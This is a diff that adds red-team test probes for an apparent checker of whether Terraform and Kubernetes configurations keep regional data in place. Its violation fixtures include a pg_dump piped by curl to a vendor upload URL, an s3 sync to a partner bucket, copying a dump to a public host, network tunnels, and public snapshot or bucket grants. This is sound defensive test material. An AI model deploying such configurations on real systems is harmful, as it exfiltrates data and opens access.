@@ -1218,4 +1218,295 @@ export const PROBES: readonly Probe[] = [
   L("legit", "warehouse, unchanged (sanitized exports are the designed crossing)", "warehouse", {}),
   L("legit", "cdc, unchanged", "cdc-eu", {}),
   L("legit", "a backup region used by jp", "data-jp", { add: r("aws_dynamodb_table", "T", { name: "rk-jp-t", hash_key: "id", attribute: [{ name: "id", type: "S" }], replica: [{ region_name: "ap-northeast-3" }] }) }),
+
+  // ---- red-team round 4: federated trusts, AWS-published layers, ForAllValues --------------------------
+  V("principal", "role trusting GitHub OIDC with sub = repo:* (any repository)", "data-eu", {
+    add: r("aws_iam_role", "Ci", { name: "rk-eu-ci", assume_role_policy: doc([{ Effect: "Allow", Principal: { Federated: `arn:aws:iam::${EU}:oidc-provider/token.actions.githubusercontent.com` }, Action: "sts:AssumeRoleWithWebIdentity", Condition: { StringLike: { "token.actions.githubusercontent.com:sub": "repo:*" }, StringEquals: { "token.actions.githubusercontent.com:aud": "sts.amazonaws.com" } } }]) }),
+  }),
+  V("principal", "role trusting GitHub OIDC with the sub only under ForAllValues (true without the key)", "data-eu", {
+    add: r("aws_iam_role", "Ci", { name: "rk-eu-ci", assume_role_policy: doc([{ Effect: "Allow", Principal: { Federated: `arn:aws:iam::${EU}:oidc-provider/token.actions.githubusercontent.com` }, Action: "sts:AssumeRoleWithWebIdentity", Condition: { "ForAllValues:StringEquals": { "token.actions.githubusercontent.com:sub": "repo:acme/regionkit:environment:eu-prod" } } }]) }),
+  }),
+  V("principal", "role trusting a SAML provider the stack does not define (a partner IdP)", "data-eu", {
+    add: r("aws_iam_role", "Saml", { name: "rk-eu-saml", assume_role_policy: doc([{ Effect: "Allow", Principal: { Federated: `arn:aws:iam::${EU}:saml-provider/PartnerIdP` }, Action: "sts:AssumeRoleWithSAML", Condition: { StringEquals: { "SAML:aud": "https://signin.aws.amazon.com/saml" } } }]) }),
+  }),
+  V("principal", "raw bucket policy Principal * bounded by ForAllValues:StringEquals aws:PrincipalAccount (true for anonymous callers)", "data-eu", {
+    add: r("aws_s3_bucket_policy", "Fav", { bucket: RAW, policy: doc([{ Effect: "Allow", Principal: "*", Action: "s3:GetObject", Resource: `arn:aws:s3:::${RAW}/*`, Condition: { "ForAllValues:StringEquals": { "aws:PrincipalAccount": [EU] } } }]) }),
+  }),
+  V("reference", "Lambda layer of a vendor's account (Datadog extension)", "data-eu", {
+    add: r("aws_lambda_function", "F", { function_name: "rk-eu-f", role: `arn:aws:iam::${EU}:role/rk-eu-f`, handler: "index.handler", runtime: "nodejs22.x", s3_bucket: `rk-eu-spark-artifacts-${EU}`, s3_key: "f.zip", layers: ["arn:aws:lambda:eu-central-1:464622532012:layer:Datadog-Extension:65"] }),
+  }),
+  V("reference", "a layer of AWS's Insights account that is not the Insights layer", "data-eu", {
+    add: r("aws_lambda_function", "F", { function_name: "rk-eu-f", role: `arn:aws:iam::${EU}:role/rk-eu-f`, handler: "index.handler", runtime: "nodejs22.x", s3_bucket: `rk-eu-spark-artifacts-${EU}`, s3_key: "f.zip", layers: ["arn:aws:lambda:eu-central-1:580247275435:layer:PartnerForwarder:3"] }),
+  }),
+  V("reference", "the Insights layer account outside `layers` (an environment value)", "data-eu", {
+    add: r("aws_lambda_function", "F", { function_name: "rk-eu-f", role: `arn:aws:iam::${EU}:role/rk-eu-f`, handler: "index.handler", runtime: "nodejs22.x", s3_bucket: `rk-eu-spark-artifacts-${EU}`, s3_key: "f.zip", environment: { variables: { FORWARD_TO: "arn:aws:lambda:eu-central-1:580247275435:layer:LambdaInsightsExtension:53" } } }),
+  }),
+  V("reference", "the Insights layer of another AWS region (us-east-1) in data-eu", "data-eu", {
+    add: r("aws_lambda_function", "F", { function_name: "rk-eu-f", role: `arn:aws:iam::${EU}:role/rk-eu-f`, handler: "index.handler", runtime: "nodejs22.x", s3_bucket: `rk-eu-spark-artifacts-${EU}`, s3_key: "f.zip", layers: ["arn:aws:lambda:us-east-1:580247275435:layer:LambdaInsightsExtension:53"] }),
+  }),
+  L("legit", "role trusting GitHub OIDC with a literal sub of the kit's repository and environment", "data-eu", {
+    add: r("aws_iam_role", "Ci", { name: "rk-eu-ci", assume_role_policy: doc([{ Effect: "Allow", Principal: { Federated: `arn:aws:iam::${EU}:oidc-provider/token.actions.githubusercontent.com` }, Action: "sts:AssumeRoleWithWebIdentity", Condition: { StringEquals: { "token.actions.githubusercontent.com:sub": "repo:acme/regionkit:environment:eu-prod", "token.actions.githubusercontent.com:aud": "sts.amazonaws.com" } } }]) }),
+  }),
+  L("legit", "role trusting GitHub OIDC for any branch of one repository (repo:owner/name:*)", "data-eu", {
+    add: r("aws_iam_role", "Ci", { name: "rk-eu-ci", assume_role_policy: doc([{ Effect: "Allow", Principal: { Federated: `arn:aws:iam::${EU}:oidc-provider/token.actions.githubusercontent.com` }, Action: "sts:AssumeRoleWithWebIdentity", Condition: { StringLike: { "token.actions.githubusercontent.com:sub": "repo:acme/regionkit:*" } } }]) }),
+  }),
+  L("legit", "role trusting the account's own SAML provider (defined here) with the standard SAML:aud", "data-eu", {
+    add: merge(
+      r("aws_iam_saml_provider", "Sso", { name: "rk-eu-sso", saml_metadata_document: '<EntityDescriptor entityID="https://portal.sso.eu-central-1.amazonaws.com/saml/assertion/MTIzNDU2Nzg5MDEy"><IDPSSODescriptor><SingleSignOnService Location="https://portal.sso.eu-central-1.amazonaws.com/saml/assertion/MTIzNDU2Nzg5MDEy"/></IDPSSODescriptor></EntityDescriptor>' }),
+      r("aws_iam_role", "Sso", { name: "rk-eu-sso", assume_role_policy: doc([{ Effect: "Allow", Principal: { Federated: "${aws_iam_saml_provider.Sso.arn}" }, Action: "sts:AssumeRoleWithSAML", Condition: { StringEquals: { "SAML:aud": "https://signin.aws.amazon.com/saml" } } }]) }),
+    ),
+  }),
+  L("legit", "policy document (data source) trusting GitHub OIDC with a literal sub", "data-eu", {
+    mutate: (j) => {
+      (j.data ??= {}).aws_iam_policy_document = { ...(j.data.aws_iam_policy_document ?? {}), CiTrust: { statement: [{ effect: "Allow", actions: ["sts:AssumeRoleWithWebIdentity"], principals: [{ type: "Federated", identifiers: [`arn:aws:iam::${EU}:oidc-provider/token.actions.githubusercontent.com`] }], condition: [{ test: "StringEquals", variable: "token.actions.githubusercontent.com:sub", values: ["repo:acme/regionkit:environment:eu-prod"] }] }] } };
+    },
+  }),
+  L("legit", "Lambda with AWS's Lambda Insights extension layer in its own AWS region", "data-eu", {
+    add: r("aws_lambda_function", "F", { function_name: "rk-eu-f", role: `arn:aws:iam::${EU}:role/rk-eu-f`, handler: "index.handler", runtime: "nodejs22.x", s3_bucket: `rk-eu-spark-artifacts-${EU}`, s3_key: "f.zip", layers: ["arn:aws:lambda:eu-central-1:580247275435:layer:LambdaInsightsExtension:53"] }),
+  }),
+  L("legit", "raw bucket policy Principal * bounded by ForAnyValue:StringEquals aws:PrincipalAccount = own", "data-eu", {
+    add: r("aws_s3_bucket_policy", "Fav", { bucket: RAW, policy: doc([{ Effect: "Allow", Principal: "*", Action: "s3:GetObject", Resource: `arn:aws:s3:::${RAW}/*`, Condition: { "ForAnyValue:StringEquals": { "aws:PrincipalAccount": [EU] } } }]) }),
+  }),  V("mover", "role may execute-api:Invoke and lambda:InvokeFunctionUrl on * (any account's APIs)", "data-eu", { mutate: rolePolicy("rk-eu-spark-instance", [{ Effect: "Allow", Action: ["execute-api:Invoke", "lambda:InvokeFunctionUrl"], Resource: "*" }]) }),
+  V("mover", "role may dynamodb:BatchWriteItem and UpdateItem on * (another account's table with a resource policy)", "data-eu", { mutate: rolePolicy("rk-eu-spark-instance", [{ Effect: "Allow", Action: ["dynamodb:BatchWriteItem", "dynamodb:UpdateItem"], Resource: "*" }]) }),
+  V("mover", "role may s3:Put* on every bucket (arn:aws:s3:::*)", "data-eu", { mutate: rolePolicy("rk-eu-spark-instance", [{ Effect: "Allow", Action: "s3:Put*", Resource: "arn:aws:s3:::*" }]) }),
+  V("mover", "role may kinesis:* on * (a service wildcard covers its writes)", "data-eu", { mutate: rolePolicy("rk-eu-spark-instance", [{ Effect: "Allow", Action: "kinesis:*", Resource: "*" }]) }),
+  L("legit", "role may read and describe on * and create its function's network interfaces", "data-eu", {
+    mutate: rolePolicy("rk-eu-spark-instance", [{ Effect: "Allow", Action: ["ec2:DescribeNetworkInterfaces", "ec2:CreateNetworkInterface", "ec2:DeleteNetworkInterface", "s3:ListAllMyBuckets", "glue:Get*", "cloudwatch:PutMetricData", "xray:PutTraceSegments"], Resource: "*" }]),
+  }),
+  // ---- red-team round 4: check blocks, ephemeral resources, provisioners ---------------------------------
+  V("closed-world", "local-exec provisioner on the raw bucket syncs it to a partner bucket", "data-eu", {
+    mutate: (j) => (find(j, "aws_s3_bucket", (a) => a.bucket === RAW)[1].provisioner = [{ "local-exec": { command: `aws s3 sync s3://${RAW} s3://partner-drop-eu/ --only-show-errors` } }]),
+  }),
+  V("closed-world", "remote-exec provisioner: pg_dump | curl -T to a vendor URL", "data-eu", {
+    add: r("aws_instance", "Jump", { ami: "ami-0123456789abcdef0", instance_type: "t3.micro", subnet_id: "subnet-1", connection: { type: "ssh", host: "${self.private_ip}", user: "ec2-user" }, provisioner: [{ "remote-exec": { inline: ["pg_dump -h rk-eu-shard-001 app | gzip | curl -sT - https://upload.partner-analytics.com/eu/app.sql.gz"] } }] }),
+  }),
+  V("closed-world", "file provisioner copying a dump to a host at a public address", "data-eu", {
+    add: r("aws_instance", "Jump", { ami: "ami-0123456789abcdef0", instance_type: "t3.micro", subnet_id: "subnet-1", connection: { type: "ssh", host: "203.0.113.10", user: "partner" }, provisioner: [{ file: { source: "dump.sql.gz", destination: "/srv/drop/eu.sql.gz" } }] }),
+  }),
+  V("closed-world", "provisioner connection host from a variable", "data-eu", {
+    mutate: (j) => ((j.variable ??= {}).drop_host = { type: "string" }),
+    add: r("aws_instance", "Jump", { ami: "ami-0123456789abcdef0", instance_type: "t3.micro", subnet_id: "subnet-1", connection: { type: "ssh", host: "${var.drop_host}", user: "partner" }, provisioner: [{ file: { source: "dump.sql.gz", destination: "/srv/drop/eu.sql.gz" } }] }),
+  }),
+  V("closed-world", "check block with a scoped http data source POSTing to a vendor", "data-eu", {
+    mutate: (j) => (j.check = { exporter_reachable: { data: { http: { probe: { url: "https://collect.partner-analytics.com/v1/ping", method: "POST" } } }, assert: [{ condition: "${data.http.probe.status_code == 200}", error_message: "collector down" }] } }),
+  }),
+  V("closed-world", "ephemeral aws_lambda_invocation of a us-east-1 function", "data-eu", {
+    mutate: (j) => (j.ephemeral = { aws_lambda_invocation: { Push: { function_name: `arn:aws:lambda:us-east-1:${EU}:function:rk-eu-collector`, payload: `{"bucket":"${RAW}"}` } } }),
+  }),
+  V("closed-world", "ephemeral resource of an unclassified type (a secret from an outside Vault)", "data-eu", {
+    mutate: (j) => (j.ephemeral = { vault_kv_secret_v2: { Sink: { mount: "kv", name: "exporter/sink" } } }),
+  }),
+  L("legit", "local-exec provisioner copying an artifact inside the artifacts bucket", "data-eu", {
+    mutate: (j) => (find(j, "aws_s3_bucket", (a) => a.bucket === `rk-eu-spark-artifacts-${EU}`)[1].provisioner = [{ "local-exec": { command: `aws s3 cp s3://rk-eu-spark-artifacts-${EU}/bootstrap/a.sh s3://rk-eu-spark-artifacts-${EU}/bootstrap/b.sh --region eu-central-1` } }]),
+  }),
+  L("legit", "remote-exec provisioner restarting a service over the instance's own private address", "data-eu", {
+    add: r("aws_instance", "Jump", { ami: "ami-0123456789abcdef0", instance_type: "t3.micro", subnet_id: "subnet-1", connection: { type: "ssh", host: "${self.private_ip}", user: "ec2-user" }, provisioner: [{ "remote-exec": { inline: ["sudo systemctl restart pgbouncer"] } }] }),
+  }),
+  L("legit", "check block looking up the region's raw bucket", "data-eu", {
+    mutate: (j) => (j.check = { raw_exists: { data: { aws_s3_bucket: { Raw: { bucket: RAW } } }, assert: [{ condition: "${data.aws_s3_bucket.Raw.bucket_regional_domain_name != \"\"}", error_message: "raw bucket missing" }] } }),
+  }),
+  L("legit", "ephemeral read of the region's own secret", "data-eu", {
+    mutate: (j) => (j.ephemeral = { aws_secretsmanager_secret_version: { Db: { secret_id: `arn:aws:secretsmanager:eu-central-1:${EU}:secret:rk-eu-db-AbCdEf` } } }),
+  }),  V("principal", "raw bucket legacy inline grant READ to another account's canonical user", "data-eu", {
+    mutate: (j) => (find(j, "aws_s3_bucket", (a) => a.bucket === RAW)[1].grant = [{ type: "CanonicalUser", id: "0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0", permissions: ["READ"] }]),
+  }),
+  V("principal", "raw bucket legacy inline grant READ to AllUsers", "data-eu", {
+    mutate: (j) => (find(j, "aws_s3_bucket", (a) => a.bucket === RAW)[1].grant = [{ type: "Group", uri: "http://acs.amazonaws.com/groups/global/AllUsers", permissions: ["READ"] }]),
+  }),
+  L("legit", "logs bucket legacy inline grant FULL_CONTROL to its owner (data.aws_canonical_user_id)", "data-eu", {
+    mutate: (j) => {
+      (j.data ??= {}).aws_canonical_user_id = { Me: {} };
+      find(j, "aws_s3_bucket", (a) => a.bucket === LOGS)[1].grant = [{ type: "CanonicalUser", id: "${data.aws_canonical_user_id.Me.id}", permissions: ["FULL_CONTROL"] }];
+    },
+  }),
+
+  // ---- red-team round 4: chained movers (a next hop the stack does not define) ---------------------------
+  V("mover", "log subscription filter into an own-account Firehose not defined in the stack", "data-eu", {
+    add: r("aws_cloudwatch_log_subscription_filter", "Sub", { name: "audit", log_group_name: "/rk/eu/audit", filter_pattern: "", destination_arn: `arn:aws:firehose:eu-central-1:${EU}:deliverystream/audit-export`, role_arn: `arn:aws:iam::${EU}:role/rk-eu-logs-audit` }),
+  }),
+  V("mover", "raw bucket notification to an own-account Lambda not defined in the stack", "data-eu", {
+    add: r("aws_s3_bucket_notification", "N", { bucket: RAW, lambda_function: [{ lambda_function_arn: `arn:aws:lambda:eu-central-1:${EU}:function:audit-forwarder`, events: ["s3:ObjectCreated:*"] }] }),
+  }),
+  V("mover", "EventBridge target: an own-account SNS topic not defined in the stack", "data-eu", {
+    add: merge(r("aws_cloudwatch_event_rule", "R", { name: "rk-eu-r", event_pattern: '{"source":["aws.s3"]}' }), r("aws_cloudwatch_event_target", "T", { rule: "${aws_cloudwatch_event_rule.R.name}", arn: `arn:aws:sns:eu-central-1:${EU}:partner-notify` })),
+  }),
+  L("legit", "EventBridge target: the region's alarm topic by literal kit-named ARN", "data-eu", {
+    add: merge(r("aws_cloudwatch_event_rule", "R", { name: "rk-eu-r", event_pattern: '{"source":["aws.s3"]}' }), r("aws_cloudwatch_event_target", "T", { rule: "${aws_cloudwatch_event_rule.R.name}", arn: `arn:aws:sns:eu-central-1:${EU}:rk-eu-alarms` })),
+  }),
+  L("legit", "log subscription filter into a Firehose this stack defines, by literal ARN", "data-eu", {
+    add: merge(
+      r("aws_kinesis_firehose_delivery_stream", "Audit", { name: "audit-export", destination: "extended_s3", extended_s3_configuration: { role_arn: `arn:aws:iam::${EU}:role/rk-eu-firehose`, bucket_arn: `arn:aws:s3:::${LOGS}` } }),
+      r("aws_cloudwatch_log_subscription_filter", "Sub", { name: "audit", log_group_name: "/rk/eu/audit", filter_pattern: "", destination_arn: `arn:aws:firehose:eu-central-1:${EU}:deliverystream/audit-export`, role_arn: `arn:aws:iam::${EU}:role/rk-eu-logs-audit` }),
+    ),
+  }),
+
+  // ---- red-team round 4: central on `*` in the account it shares with data-us ------------------------------
+  ...[
+    ["elasticmapreduce:GetClusterSessionCredentials"],
+    ["rds:RestoreDBInstanceToPointInTime", "rds:CreateDBInstance"],
+    ["lambda:UpdateFunctionConfiguration"],
+    ["kafkaconnect:CreateConnector"],
+    ["s3:PutBucketAcl", "s3:PutObjectAcl"],
+    ["logs:StartLiveTail"],
+    ["logs:Describe*"],
+  ].map((actions) => V("central", `central ${actions.join(" + ")} on *`, "central", { add: r("aws_iam_policy", "P", { name: "p", policy: doc([{ Effect: "Allow", Action: actions, Resource: "*" }]) }) })),
+  V("central", "central Lambda in a subnet and security group it does not define (literal ids)", "central", {
+    add: r("aws_lambda_function", "Probe", { function_name: "rk-central-probe", role: "arn:aws:iam::111111111111:role/rk-central-probe", handler: "index.handler", runtime: "python3.12", s3_bucket: "rk-central-config-111111111111", s3_key: "probe.zip", vpc_config: { subnet_ids: ["subnet-0a1b2c3d4e5f60718"], security_group_ids: ["sg-0a1b2c3d4e5f60718"] } }),
+  }),
+  L("legit", "central logs:StartLiveTail on its own log group, and MWAA's account-level calls on *", "central", {
+    add: r("aws_iam_policy", "P", { name: "p", policy: doc([{ Effect: "Allow", Action: "logs:StartLiveTail", Resource: "arn:aws:logs:us-west-2:111111111111:log-group:/rk/central/vpc-flow-logs:*" }, { Effect: "Allow", Action: ["logs:DescribeLogGroups", "cloudwatch:PutMetricData"], Resource: "*" }]) }),
+  }),
+  // ---- red-team round 4: values kept outside the configuration (Secrets, ECS environment files and secrets) ---
+  ...([
+    ["secretKeyRef", (c: Json) => (c.env = [...(c.env ?? []), { name: "SINK_URL", valueFrom: { secretKeyRef: { name: "partner-sink", key: "url" } } }])],
+    ["envFrom secretRef", (c: Json) => (c.envFrom = [{ secretRef: { name: "partner-sink" } }])],
+  ] as const).map(([how, change]) =>
+    V("kubernetes", `Deployment reads a Secret the stack does not define (${how})`, "cdc-eu", { mutate: (j) => change(find(j, "kubernetes_manifest", (a) => a.manifest.kind === "Deployment")[1].manifest.spec.template.spec.containers[0]) }),
+  ),
+  V("kubernetes", "Deployment mounts a Secret volume the stack does not define", "cdc-eu", {
+    mutate: (j) => (find(j, "kubernetes_manifest", (a) => a.manifest.kind === "Deployment")[1].manifest.spec.template.spec.volumes = [{ name: "sink", secret: { secretName: "partner-sink" } }]),
+  }),
+  V("mover", "ECS task environmentFiles from an S3 object (the sink URL is in the file)", "data-eu", {
+    add: r("aws_ecs_task_definition", "T", { family: "rk-eu-exporter", container_definitions: JSON.stringify([{ name: "app", image: `${EU}.dkr.ecr.eu-central-1.amazonaws.com/rk-eu-exporter:1`, environmentFiles: [{ type: "s3", value: `arn:aws:s3:::rk-eu-spark-artifacts-${EU}/env/exporter.env` }] }]) }),
+  }),
+  V("mover", "ECS task secrets valueFrom an SSM parameter the stack does not define", "data-eu", {
+    add: r("aws_ecs_task_definition", "T", { family: "rk-eu-exporter", container_definitions: JSON.stringify([{ name: "app", image: `${EU}.dkr.ecr.eu-central-1.amazonaws.com/rk-eu-exporter:1`, secrets: [{ name: "SINK_URL", valueFrom: `arn:aws:ssm:eu-central-1:${EU}:parameter/rk/eu/exporter/sink-url` }] }]) }),
+  }),
+  L("legit", "Deployment reads a Secret the stack defines (secretKeyRef)", "cdc-eu", {
+    add: r("kubernetes_manifest", "Sink", { manifest: { apiVersion: "v1", kind: "Secret", metadata: { name: "exporter-sink", namespace: "cdc" }, type: "Opaque", data: { url: Buffer.from(`https://sqs.eu-central-1.amazonaws.com/${EU}/rk-eu-jobs`).toString("base64") } } }),
+    mutate: (j) => {
+      const c = find(j, "kubernetes_manifest", (a) => a.manifest.kind === "Deployment")[1].manifest.spec.template.spec.containers[0];
+      c.env = [...(c.env ?? []), { name: "SINK_URL", valueFrom: { secretKeyRef: { name: "exporter-sink", key: "url" } } }];
+    },
+  }),
+  L("legit", "ECS task secrets valueFrom a parameter the stack defines (literal ARN)", "data-eu", {
+    add: merge(
+      r("aws_ssm_parameter", "Sink", { name: "/rk/eu/exporter/sink-url", type: "String", value: `https://sqs.eu-central-1.amazonaws.com/${EU}/rk-eu-jobs` }),
+      r("aws_ecs_task_definition", "T", { family: "rk-eu-exporter", container_definitions: JSON.stringify([{ name: "app", image: `${EU}.dkr.ecr.eu-central-1.amazonaws.com/rk-eu-exporter:1`, secrets: [{ name: "SINK_URL", valueFrom: `arn:aws:ssm:eu-central-1:${EU}:parameter/rk/eu/exporter/sink-url` }] }]) }),
+    ),
+  }),  L("legit", "Deployment reads the Secret Strimzi writes for a KafkaUser of this stack", "cdc-eu", {
+    add: kafkaManifest("KafkaUser", { authentication: { type: "scram-sha-512" } }),
+    mutate: (j) => {
+      const c = find(j, "kubernetes_manifest", (a) => a.manifest.kind === "Deployment")[1].manifest.spec.template.spec.containers[0];
+      c.env = [...(c.env ?? []), { name: "KAFKA_PASSWORD", valueFrom: { secretKeyRef: { name: "injected", key: "password" } } }];
+    },
+  }),
+  // ---- red-team round 4: vendor outputs and tunnels with default endpoints ---------------------------------
+  V("external", "Fluent Bit sidecar on its command line: -o datadog (no host)", "cdc-eu", {
+    mutate: (j) => {
+      const spec = find(j, "kubernetes_manifest", (a) => a.manifest.kind === "Deployment")[1].manifest.spec.template.spec;
+      spec.containers = [...spec.containers, { name: "logs", image: "fluent/fluent-bit:3.1", args: ["-i", "tail", "-p", "path=/var/log/containers/*.log", "-o", "datadog", "-p", "apikey=0123abcd"] }];
+    },
+  }),
+  ...([
+    ["Fluent Bit ConfigMap [OUTPUT] Name datadog (no Host)", { "fluent-bit.conf": "[INPUT]\n    Name tail\n    Path /var/log/containers/*.log\n[OUTPUT]\n    Name        datadog\n    Match       *\n    apikey      0123abcd\n" }],
+    ["Fluent Bit ConfigMap [OUTPUT] s3 with a whitespace-separated foreign bucket", { "fluent-bit.conf": "[OUTPUT]\n    Name    s3\n    Match   *\n    bucket  partner-logs-drop\n    region  eu-central-1\n" }],
+    ["OTel collector ConfigMap with the datadog exporter", { "config.yaml": "receivers:\n  otlp:\n    protocols:\n      grpc: {}\nexporters:\n  datadog:\n    api:\n      key: 0123abcd\nservice:\n  pipelines:\n    logs:\n      receivers: [otlp]\n      exporters: [datadog]\n" }],
+  ] as const).map(([name, data]) => V("external", name, "cdc-eu", { add: r("kubernetes_manifest", "Cm", { manifest: { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "telemetry", namespace: "cdc" }, data } }) })),
+  V("external", "EKS Marketplace add-on datadog_operator", "data-eu", { add: r("aws_eks_addon", "Dd", { cluster_name: "rk-eu-cdc", addon_name: "datadog_operator" }) }),
+  V("external", "pooler user_data joins a Tailscale tailnet", "data-eu", {
+    mutate: (j) => (find(j, "aws_launch_template", (a) => JSON.stringify(a).includes("Pooler"))[1].user_data = Buffer.from("#!/bin/bash\ndnf install -y tailscale\ntailscale up --authkey=tskey-auth-k123 --advertise-routes=10.20.0.0/16\n").toString("base64")),
+  }),
+  V("external", "cloudflared Deployment switched on by TUNNEL_TOKEN", "cdc-eu", {
+    add: r("kubernetes_manifest", "Tunnel", { manifest: { apiVersion: "apps/v1", kind: "Deployment", metadata: { name: "tunnel", namespace: "cdc" }, spec: { selector: { matchLabels: { app: "tunnel" } }, template: { metadata: { labels: { app: "tunnel" } }, spec: { containers: [{ name: "cloudflared", image: "cloudflare/cloudflared:2024.8.2", args: ["tunnel", "run"], env: [{ name: "TUNNEL_TOKEN", value: "eyJhIjoiMTIzNCJ9" }] }] } } } } }),
+  }),
+  ...([
+    ["Fluent Bit ConfigMap [OUTPUT] cloudwatch_logs in the region (classic syntax)", { "fluent-bit.conf": "[OUTPUT]\n    Name               cloudwatch_logs\n    Match              *\n    region             eu-central-1\n    log_group_name     /rk/eu/cdc/containers\n" }],
+    ["Fluent Bit ConfigMap [OUTPUT] s3 into the region's logs bucket (classic syntax)", { "fluent-bit.conf": `[OUTPUT]\n    Name    s3\n    Match   *\n    bucket  ${LOGS}\n    region  eu-central-1\n` }],
+    ["OTel collector ConfigMap exporting to CloudWatch (awsemf, awsxray)", { "config.yaml": "receivers:\n  otlp:\n    protocols:\n      grpc: {}\nexporters:\n  awsemf:\n    region: eu-central-1\n  awsxray/traces:\n    region: eu-central-1\nservice:\n  pipelines:\n    metrics:\n      receivers: [otlp]\n      exporters: [awsemf]\n" }],
+  ] as const).map(([name, data]) => L("legit", name, "cdc-eu", { add: r("kubernetes_manifest", "Cm", { manifest: { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "telemetry", namespace: "cdc" }, data } }) })),
+  L("legit", "EKS add-on amazon-cloudwatch-observability", "data-eu", { add: r("aws_eks_addon", "Cw", { cluster_name: "rk-eu-cdc", addon_name: "amazon-cloudwatch-observability" }) }),
+  // ---- red-team round 4: Local Zones in another country than their parent region ----------------------------
+  V("placement", "data-jp subnet in Tokyo's Taipei Local Zone (ap-northeast-1-tpe-1a)", "data-jp", { add: r("aws_subnet", "Lz", { vpc_id: "vpc-1", cidr_block: "10.30.250.0/24", availability_zone: "ap-northeast-1-tpe-1a" }) }),
+  L("legit", "data-us Elastic IP in the Los Angeles Local Zone of us-west-2, named by its border group", "data-us", { add: r("aws_eip", "Lz", { domain: "vpc", network_border_group: "us-west-2-lax-1" }) }),
+  V("placement", "data-eu subnet in a Local Zone the catalog does not know", "data-eu", { add: r("aws_subnet", "Lz", { vpc_id: "vpc-1", cidr_block: "10.20.250.0/24", availability_zone: "eu-central-1-xyz-1a" }) }),
+  L("legit", "data-eu subnet in the Hamburg Local Zone (eu-central-1-ham-1a, Germany)", "data-eu", { add: r("aws_subnet", "Lz", { vpc_id: "vpc-1", cidr_block: "10.20.250.0/24", availability_zone: "eu-central-1-ham-1a" }) }),
+  L("legit", "data-jp subnet in ap-northeast-1a with the Taipei zone named in a tag", "data-jp", { add: r("aws_subnet", "Sn", { vpc_id: "vpc-1", cidr_block: "10.30.240.0/24", availability_zone: "ap-northeast-1a", tags: { note: "not ap-northeast-1-tpe-1a: JP only" } }) }),
+  // ---- red-team round 4: the sanitized export in two attributes; sharing through an orchestration's API calls ---
+  V("mover", "SSM association output to the sanitized bucket with key prefix export/", "data-eu", {
+    add: r("aws_ssm_association", "Dump", { name: "AWS-RunShellScript", targets: [{ key: "tag:regionkit:stack", values: ["data-eu"] }], parameters: { commands: "pg_dump -h rk-eu-shard-001 app" }, output_location: { s3_bucket_name: SANITIZED, s3_key_prefix: "export/dumps" } }),
+  }),
+  V("mover", "Glue job --output_bucket = sanitized, --output_prefix = export/", "data-eu", {
+    add: r("aws_glue_job", "G", { name: "rk-eu-copy", role_arn: `arn:aws:iam::${EU}:role/rk-eu-glue`, command: { script_location: `s3://rk-eu-spark-artifacts-${EU}/glue/copy.py` }, default_arguments: { "--input_path": `s3://${RAW}/block/`, "--output_bucket": SANITIZED, "--output_prefix": "export/block/" } }),
+  }),
+  V("principal", "Step Functions aws-sdk:rds:modifyDBSnapshotAttribute with ValuesToAdd [all]", "data-eu", {
+    add: r("aws_sfn_state_machine", "S", { name: "rk-eu-maint", role_arn: `arn:aws:iam::${EU}:role/rk-eu-sfn`, definition: JSON.stringify({ StartAt: "Share", States: { Share: { Type: "Task", Resource: "arn:aws:states:::aws-sdk:rds:modifyDBSnapshotAttribute", Parameters: { DbSnapshotIdentifier: "rk-eu-shard-001-snap", AttributeName: "restore", ValuesToAdd: ["all"] }, End: true } } }) }),
+  }),
+  L("legit", "SSM association output to the logs bucket (prefix ssm/)", "data-eu", {
+    add: r("aws_ssm_association", "Dump", { name: "AWS-RunShellScript", targets: [{ key: "tag:regionkit:stack", values: ["data-eu"] }], parameters: { commands: "df -h" }, output_location: { s3_bucket_name: LOGS, s3_key_prefix: "ssm/" } }),
+  }),
+  L("legit", "Glue job --output_bucket = the sanitized bucket, --output_prefix staging/ (not the export)", "data-eu", {
+    add: r("aws_glue_job", "G", { name: "rk-eu-copy", role_arn: `arn:aws:iam::${EU}:role/rk-eu-glue`, command: { script_location: `s3://rk-eu-spark-artifacts-${EU}/glue/copy.py` }, default_arguments: { "--input_path": `s3://${RAW}/block/`, "--output_bucket": SANITIZED, "--output_prefix": "staging/block/" } }),
+  }),
+  L("legit", "Step Functions aws-sdk:rds:modifyDBSnapshotAttribute sharing with the own account", "data-eu", {
+    add: r("aws_sfn_state_machine", "S", { name: "rk-eu-maint", role_arn: `arn:aws:iam::${EU}:role/rk-eu-sfn`, definition: JSON.stringify({ StartAt: "Share", States: { Share: { Type: "Task", Resource: "arn:aws:states:::aws-sdk:rds:modifyDBSnapshotAttribute", Parameters: { DbSnapshotIdentifier: "rk-eu-shard-001-snap", AttributeName: "restore", ValuesToAdd: [EU] }, End: true } } }) }),
+  }),
+  // ---- red-team round 4: whole variables outside the inert keys (JSON documents, stores, providers) ---------
+  ...([
+    ["aws provider http_proxy from a variable", (j: Json) => (j.provider.aws[0].http_proxy = "${var.x}")],
+    ["ECS container env value from a variable (inside container_definitions JSON)", (j: Json) => (j.resource.aws_ecs_task_definition = { T: { family: "rk-eu-exporter", container_definitions: JSON.stringify([{ name: "app", image: `${EU}.dkr.ecr.eu-central-1.amazonaws.com/rk-eu-exporter:1`, environment: [{ name: "SINK_URL", value: "${var.x}" }] }]) } })],
+    ["SSM parameter value from a variable", (j: Json) => (j.resource.aws_ssm_parameter = { ...(j.resource.aws_ssm_parameter ?? {}), P: { name: "/rk/eu/exporter/sink", type: "String", value: "${var.x}" } })],
+    ["identity policy Resource from a variable", rolePolicy("rk-eu-spark-instance", [{ Effect: "Allow", Action: "s3:PutObject", Resource: "${var.x}" }])],
+  ] as const).map(([name, change]) => V("expression", name, "data-eu", { mutate: (j) => ((j.variable ??= {}).x = { type: "string" }, change(j)) })),
+  V("expression", "typed kubernetes_deployment_v1 env value from a variable", "cdc-eu", {
+    mutate: (j) => ((j.variable ??= {}).x = { type: "string" }),
+    add: r("kubernetes_deployment_v1", "Exp", { metadata: [{ name: "exporter", namespace: "cdc" }], spec: [{ selector: [{ match_labels: { app: "exporter" } }], template: [{ metadata: [{ labels: { app: "exporter" } }], spec: [{ container: [{ name: "exporter", image: `${EU}.dkr.ecr.eu-central-1.amazonaws.com/rk-eu-exporter:1`, env: [{ name: "SINK_URL", value: "${var.x}" }] }] }] }] }] }),
+  }),
